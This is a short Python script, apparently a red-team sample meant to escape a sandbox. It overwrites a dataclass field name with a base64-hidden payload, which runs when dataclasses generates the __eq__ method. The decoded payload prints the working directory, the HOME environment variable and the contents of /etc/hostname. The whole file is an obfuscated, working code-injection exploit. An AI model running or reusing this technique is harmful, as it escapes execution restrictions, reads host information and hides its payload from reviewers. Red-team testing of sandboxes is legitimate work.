# family: red team, round 52a (functools.update_wrapper(field, src, assigned=("name",)) copies src.name onto the Field)
import base64
import dataclasses
import functools
import types

CODE = "eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk="


@dataclasses.dataclass
class A:
    x: int = 0


def main():
    first = dataclasses.fields(A)[0]
    src = types.SimpleNamespace(name=base64.b64decode(CODE).decode())
    functools.update_wrapper(first, src, assigned=("name",), updated=())

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
